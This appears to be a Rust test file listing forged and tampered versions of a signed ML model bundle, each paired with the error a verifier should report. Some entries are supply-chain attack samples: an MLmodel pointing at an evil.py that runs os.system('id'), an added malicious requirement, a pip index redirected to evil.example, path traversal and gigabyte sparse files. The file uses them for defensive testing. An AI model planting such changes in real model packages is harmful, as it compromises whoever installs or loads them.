//! Careful ways to forge a bundle: `bundle.json` lists every changed file, and the format of each file is right.

use super::signed::Tampered;
use super::tampering::{BUNDLE, PARITY, PLAN, PROVENANCE, RECEIPT, REPORT, Tampering, follow_vectors, tampering};
use model_factory::domain::contract::TrainPlan;
use model_factory::domain::identity::{Digest, RunKey};
use model_factory::tools::verify::Link;
use nix::sys::stat::Mode;
use nix::unistd::mkfifo;
use serde_json::{Value, json};
use std::ffi::OsStr;
use std::fs::{self, File};
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::net::UnixListener;

const SIGNATURE: &str = "model.sig";
const CARD: &str = "model_card.md";
const PYFUNC: &str = "model_factory_pyfunc.py";

pub const FORGERIES: &[Tampering] = &[
    // Files that other tools trust: MLflow runs the program that MLmodel names, and installs what requirements.txt lists.
    tampering("an MLmodel that names evil.py", Link::Descriptions, "it is     model_code_path: evil.py", |t| {
        t.rewrite("MLmodel", |text| text.replace("model_factory_pyfunc.py", "evil.py"));
    }),
    tampering("an MLmodel that names evil.py, and evil.py in the list", Link::Files, "\"evil.py\" is no file", |t| {
        t.rewrite("MLmodel", |text| text.replace("model_factory_pyfunc.py", "evil.py"));
        t.add("evil.py", "import os\nos.system('id')\n");
    }),
    tampering("an MLmodel that loads evil", Link::Descriptions, "it is     loader_module: evil", |t| {
        t.rewrite("MLmodel", |text| text.replace("loader_module: mlflow.pyfunc.model", "loader_module: evil"));
    }),
    tampering("an MLmodel with a folder of code", Link::Descriptions, "MLmodel does not follow", |t| {
        t.rewrite("MLmodel", |text| text.replace("    code: null", "    code: code"));
    }),
    tampering("an MLmodel that reads another model", Link::Descriptions, "MLmodel does not follow", |t| {
        t.rewrite("MLmodel", |text| text.replacen("path: model.json", "path: bom.json", 1));
    }),
    tampering("an MLmodel with another input", Link::Descriptions, "MLmodel does not follow", |t| {
        t.rewrite("MLmodel", |text| text.replacen("\"type\":\"numeric\"", "\"type\":\"categorical\"", 1));
    }),
    tampering("a line more in the program", Link::Descriptions, "model_factory_pyfunc.py does not follow", |t| {
        t.rewrite(PYFUNC, |text| format!("{text}os.system('id')\n"));
    }),
    tampering(
        "a program that turns scores around",
        Link::Descriptions,
        "model_factory_pyfunc.py does not follow",
        |t| {
            t.rewrite(PYFUNC, |text| text.replace("return booster.predict(", "return 1 - booster.predict("));
        },
    ),
    tampering("a requirement more", Link::Descriptions, "requirements.txt does not follow", |t| {
        t.rewrite("requirements.txt", |text| format!("{text}evil==1.0\n"));
    }),
    tampering("requirements from elsewhere", Link::Descriptions, "python_env.yaml does not follow", |t| {
        t.rewrite("python_env.yaml", |text| {
            text.replace("-r requirements.txt", "-i http://evil.example -r requirements.txt")
        });
    }),
    tampering("another channel", Link::Descriptions, "conda.yaml does not follow", |t| {
        t.rewrite("conda.yaml", |text| text.replace("- conda-forge", "- evil"));
    }),
    tampering("a hidden file in the list", Link::Files, "\".env\" is no file", |t| t.add(".env", "A=1\n")),
    tampering("a better metric in the card", Link::Descriptions, "model_card.md does not follow", |t| {
        t.rewrite(CARD, |text| text.replacen("**PASS**", "**PASS** with distinction", 1));
    }),
    tampering("a card with other line ends", Link::Descriptions, "in line 1", |t| {
        t.rewrite(CARD, |text| text.replace('\n', "\r\n"));
    }),
    tampering("a bill with another component", Link::Descriptions, "at /components", |t| {
        t.forge("bom.json", |b| b["components"].as_array_mut().unwrap().push(json!({"type": "library", "name": "x"})));
    }),
    tampering("a bill in another form", Link::Descriptions, "the right values in another form", |t| {
        t.rewrite("bom.json", |text| text.replacen("  ", " ", 1));
    }),
    tampering("another example", Link::Descriptions, "input_example.json does not follow", |t| {
        t.forge("input_example.json", |e| e["data"][0][0] = json!(1_000_000.0));
    }),
    tampering("provenance with a subject too many", Link::Provenance, "at /subject", |t| {
        t.forge(PROVENANCE, |p| {
            let subject = json!({"name": "x", "digest": {"sha256": Digest::of(b"x")}});
            p["subject"].as_array_mut().unwrap().push(subject);
        });
    }),
    tampering("provenance with another seed", Link::Provenance, "internalParameters/seed", |t| {
        t.forge(PROVENANCE, |p| {
            p["predicate"]["buildDefinition"]["internalParameters"]["seed"] = json!("1");
        });
    }),
    tampering("provenance with a key twice", Link::Provenance, "occurs twice", |t| {
        t.rewrite(PROVENANCE, |text| text.replacen('{', "{\"subject\": [],", 1));
    }),
    // bundle.json itself.
    tampering("another media type", Link::Bundle, "/media_type", |t| {
        t.edit(BUNDLE, |b| b["files"][0]["media_type"] = json!("text/html"));
    }),
    tampering("files in another order", Link::Bundle, "at /files/0", |t| {
        t.edit(BUNDLE, |b| b["files"].as_array_mut().unwrap().reverse());
    }),
    tampering("the signature in the list", Link::Files, "lists model.sig where it must not", |t| {
        t.edit(BUNDLE, |b| {
            let files = b["files"].as_array_mut().unwrap();
            let mut listed = files[0].clone();
            (listed["path"], listed["sha256"]) = (json!(SIGNATURE), json!(t.digest(SIGNATURE)));
            listed["bytes"] = json!(fs::metadata(t.file(SIGNATURE)).unwrap().len());
            files.push(listed);
        });
    }),
    tampering("a path out of the folder", Link::Files, "../outside is missing", |t| {
        t.edit(BUNDLE, |b| b["files"][0]["path"] = json!("../outside"));
    }),
    tampering("a key twice in bundle.json", Link::Bundle, "occurs twice", |t| {
        t.rewrite(BUNDLE, |text| text.replacen('{', "{\"run_id\": \"tr_1\",", 1));
    }),
    tampering("bytes behind bundle.json", Link::Bundle, "trailing characters", |t| {
        t.rewrite(BUNDLE, |text| text + "{}");
    }),
    tampering("spaces behind bundle.json", Link::Bundle, "not the file that Model Factory wrote", |t| {
        t.rewrite(BUNDLE, |text| text + "\n");
    }),
    tampering("a byte order mark", Link::Bundle, "byte order mark", |t| {
        t.rewrite(BUNDLE, |text| format!("\u{feff}{text}"));
    }),
    // The documents that decide.
    tampering("a plan with a field too many", Link::Plan, "is not known", |t| {
        t.forge(PLAN, |p| p["approved_by"] = json!("the board"));
    }),
    tampering("a plan with a key twice", Link::Plan, "occurs twice", |t| {
        t.rewrite(PLAN, |text| text.replacen('{', "{\"seed\": 1,", 1));
    }),
    tampering("a plan whose platform run leads elsewhere", Link::Request, "is no id of a platform run", |t| {
        t.forge(PLAN, |p| {
            p["platform_run_id"] = json!("../../elsewhere");
            let plan: TrainPlan = serde_json::from_value(p.clone()).unwrap();
            let key = RunKey::of(&plan.meaning());
            (p["run_key"], p["run_id"]) = (json!(key), json!(key.run_id()));
        });
    }),
    tampering("a number in another form", Link::Report, "not the file that Model Factory wrote", |t| {
        t.rewrite(REPORT, |text| text.replacen("\"seed\": ", "\"seed\":  ", 1));
    }),
    tampering("a report that is nested too deeply", Link::Report, "nested too deeply", |t| {
        t.rewrite(REPORT, |_| ["[".repeat(5_000), "]".repeat(5_000)].concat());
    }),
    tampering("a report whose model lies elsewhere", Link::Report, "at /provenance/model/ref", |t| {
        t.forge(REPORT, |r| r["provenance"]["model"]["ref"] = json!("elsewhere/model.json"));
    }),
    tampering("a report of another seed", Link::Report, "at /metrics/seed", |t| {
        t.forge(REPORT, |r| r["metrics"]["seed"] = json!(7));
    }),
    tampering("labels of another day", Link::Report, "at /metrics/label_asof_utc", |t| {
        t.forge(REPORT, |r| r["metrics"]["label_asof_utc"] = json!("2031-01-01T00:00:00Z"));
    }),
    tampering("more rows than the files have", Link::Report, "the plan's files have", |t| {
        t.forge(REPORT, |r| add(&mut r["metrics"]["dataset"]["rows"]));
    }),
    tampering("windows that do not add up", Link::Report, "do not add up", |t| {
        t.forge(REPORT, |r| add(&mut r["metrics"]["dataset"]["train"]["rows"]));
    }),
    tampering("more frauds found than there are", Link::Report, "counts other rows than the test window", |t| {
        t.forge(REPORT, |r| add(&mut r["metrics"]["confusion"][0]["true_positives"]));
    }),
    tampering("more trees than the model has", Link::Report, "trees, the model has", |t| {
        t.forge(REPORT, |r| add(&mut r["metrics"]["rounds"]));
    }),
    tampering("another importance of a feature", Link::Report, "its splits and gains", |t| {
        t.forge(REPORT, |r| add(&mut r["metrics"]["features"][0]["splits"]));
    }),
    tampering("a report that says FAIL", Link::Report, "at /gate_decision", |t| {
        t.forge(REPORT, |r| r["gate_decision"] = json!("FAIL"));
    }),
    tampering("a receipt with a field too many", Link::Gate, "is not known", |t| {
        t.forge(RECEIPT, |r| r["waived_by"] = json!("somebody"));
    }),
    tampering("a receipt without the leakage report", Link::Gate, "at /looked_at/leakage_report", |t| {
        t.forge(RECEIPT, |r| {
            r["looked_at"].as_object_mut().unwrap().remove("leakage_report");
        });
    }),
    tampering(
        "a receipt that looked at another profile",
        Link::Gate,
        "at /looked_at/inputs~1governance_profile",
        |t| {
            t.forge(RECEIPT, |r| {
                r["looked_at"]["inputs/governance_profile.yaml"]["sha256"] = json!(Digest::of(b"lenient"));
            });
        },
    ),
    tampering("a receipt with another reason", Link::Gate, "at /thresholds/0/reason", |t| {
        t.forge(RECEIPT, |r| r["thresholds"][0]["reason"] = json!("because"));
    }),
    tampering("a receipt that compares another number", Link::Gate, "at /thresholds/0/compared", |t| {
        t.forge(RECEIPT, |r| r["thresholds"][0]["compared"] = json!(0.999));
    }),
    tampering("a receipt that counts other frauds", Link::Gate, "at /min_positives/found", |t| {
        t.forge(RECEIPT, |r| add(&mut r["min_positives"]["found"]));
    }),
    // Model and vectors.
    tampering("a key twice in the model", Link::Model, "occurs twice", |t| {
        t.rewrite("model.json", |text| text.replacen("{\"learner\"", "{\"version\":[1,0,0],\"learner\"", 1));
    }),
    tampering("a field too many in the model", Link::Model, "holds more", |t| {
        t.forge_compact("model.json", |model| model["learner"]["attributes"]["owner"] = json!("somebody"));
    }),
    tampering("spaces behind the model", Link::Model, "in another form", |t| {
        t.rewrite("model.json", |text| text + " ");
    }),
    tampering("a model of other inputs", Link::Model, "its inputs are", |t| {
        t.forge_compact("model.json", |model| model["learner"]["feature_names"].as_array_mut().unwrap().reverse());
    }),
    tampering("a model that sends its reader in circles", Link::Model, "", |t| {
        t.forge_compact("model.json", |model| {
            model["learner"]["gradient_booster"]["model"]["trees"][0]["left_children"][0] = json!(0);
        });
    }),
    tampering("two models", Link::Model, "there are two models", |t| t.add("model.onnx", "x")),
    tampering("no model", Link::Model, "there is no model", |t| {
        fs::remove_file(t.file("model.json")).unwrap();
        t.edit(BUNDLE, |b| b["files"].as_array_mut().unwrap().retain(|file| file["path"] != "model.json"));
    }),
    tampering("a vector less", Link::Parity, "at /vectors", |t| {
        t.edit(PARITY, |p| {
            p["vectors"].as_array_mut().unwrap().pop();
        });
        follow_vectors(t);
        t.repack();
    }),
    tampering("a vector of another case", Link::Parity, "at /vectors/0/case", |t| {
        t.edit(PARITY, |p| p["vectors"][0]["case"] = json!("test_row"));
        t.repack();
    }),
    // What is no file, or pretends to be a small one.
    tampering("a pipe", Link::Files, "MLmodel is no regular file", |t| {
        fs::remove_file(t.file("MLmodel")).unwrap();
        mkfifo(&t.file("MLmodel"), Mode::S_IRWXU).unwrap();
    }),
    tampering("a socket", Link::Files, "MLmodel is no regular file", |t| {
        fs::remove_file(t.file("MLmodel")).unwrap();
        UnixListener::bind(t.file("MLmodel")).unwrap();
    }),
    tampering("a model with a hole of a gigabyte", Link::Files, "model.json has holes", |t| {
        File::options().write(true).open(t.file("model.json")).unwrap().set_len(1 << 30).unwrap();
    }),
    tampering("a model of more than a gigabyte", Link::Files, "at most 1073741824 are read", |t| {
        File::options().write(true).open(t.file("model.json")).unwrap().set_len((1 << 30) + 1).unwrap();
    }),
    tampering("a card of 65 MiB", Link::Files, "at most 67108864 are read", |t| {
        File::options().write(true).open(t.file(CARD)).unwrap().set_len(65 << 20).unwrap();
    }),
    tampering("many files with holes", Link::Files, "bytes together", |t| {
        for number in 0..20 {
            File::create(t.file(&format!("{number}.json"))).unwrap().set_len(64 << 20).unwrap();
        }
        File::options().write(true).open(t.file("model.json")).unwrap().set_len(1 << 30).unwrap();
    }),
    tampering("many small files", Link::Files, "more than 32 files", |t| {
        for number in 0..40 {
            fs::write(t.file(&format!("{number}.json")), "{}").unwrap();
        }
    }),
    tampering("a name that is no text", Link::Files, "the name of a file is no text", |t| {
        fs::write(t.path().join(OsStr::from_bytes(b"\xff.json")), "{}").unwrap();
    }),
    // The signature's file, which no signature covers.
    tampering("an empty signature", Link::Signature, "it is no model signature", |t| {
        fs::write(t.file(SIGNATURE), "").unwrap();
    }),
    tampering("a field too many in the signature", Link::Signature, "unknown field", |t| {
        t.edit(SIGNATURE, |s| s["verificationMaterial"]["certificate"] = json!({}));
    }),
    tampering("a key twice in the signature", Link::Signature, "occurs twice", |t| {
        t.rewrite(SIGNATURE, |text| text.replacen('{', "{\"mediaType\": \"x\",", 1));
    }),
    tampering("a second signature", Link::Signature, "one signature", |t| {
        t.edit(SIGNATURE, |s| {
            let signatures = s["dsseEnvelope"]["signatures"].as_array_mut().unwrap();
            signatures.push(signatures[0].clone());
        });
    }),
    tampering("spaces behind the signature", Link::Signature, "in another form", |t| {
        t.rewrite(SIGNATURE, |text| text + "\n");
    }),
];

/// A change that leaves a consistent bundle, with its name.
pub type Consistent = (&'static str, fn(&Tampered));

/// What the files alone cannot show, because the bundle does not hold what it would have to be compared with.
pub const OUT_OF_REACH: &[Consistent] = &[
    ("bounds lower than those of the governance profile, in report and receipt", |t| {
        t.edit(REPORT, |r| r["metrics"]["thresholds"]["min_auc_roc"] = json!(0.5));
        t.edit(RECEIPT, |r| {
            let of = &mut r["thresholds"].as_array_mut().unwrap()[0];
            of["bound"] = json!(0.5);
            let reason = of["reason"].as_str().unwrap();
            let (before, _) = reason.rsplit_once("at least ").unwrap();
            of["reason"] = json!(format!("{before}at least 0.5"));
        });
        looked_at_report(t);
    }),
    ("fewer frauds required than the governance profile requires", |t| {
        t.edit(RECEIPT, |r| r["min_positives"]["required"] = json!(1));
        t.repack();
    }),
    ("a finding about a feature of the plan", |t| {
        t.edit(REPORT, |r| {
            let feature = r["metrics"]["features"][0]["feature"].clone();
            r["metrics"]["feature_findings"] =
                json!([{"feature": feature, "finding": "constant", "rows": r["metrics"]["dataset"]["train"]["rows"]}]);
        });
        looked_at_report(t);
    }),
    ("a metric that no threshold looks at", |t| {
        t.edit(REPORT, |r| r["metrics"]["scores"]["log_loss"]["value"] = json!(0.000_1));
        looked_at_report(t);
    }),
    ("scores of other rows", |t| {
        t.edit(REPORT, |r| r["provenance"]["scores"]["sha256"] = json!(Digest::of(b"other scores")));
        t.edit(RECEIPT, |r| r["looked_at"]["scores"]["sha256"] = json!(Digest::of(b"other scores")));
        looked_at_report(t);
    }),
    ("another plan, with all that follows", |t| {
        t.edit(PLAN, |p| p["algorithm"]["parameters"]["rounds"] = json!(7));
        let plan = json!(t.digest(PLAN));
        t.edit(REPORT, |r| r["provenance"]["resolved_train_plan"]["sha256"] = plan.clone());
        t.edit(RECEIPT, |r| r["looked_at"]["resolved_train_plan"]["sha256"] = plan);
        looked_at_report(t);
    }),
];

/// Lets the receipt name the changed report, and makes every other file anew.
pub fn looked_at_report(t: &Tampered) {
    t.edit(RECEIPT, |r| r["looked_at"]["eval_report"]["sha256"] = json!(t.digest(REPORT)));
    t.repack();
}

fn add(number: &mut Value) {
    *number = json!(number.as_u64().unwrap() + 1);
}
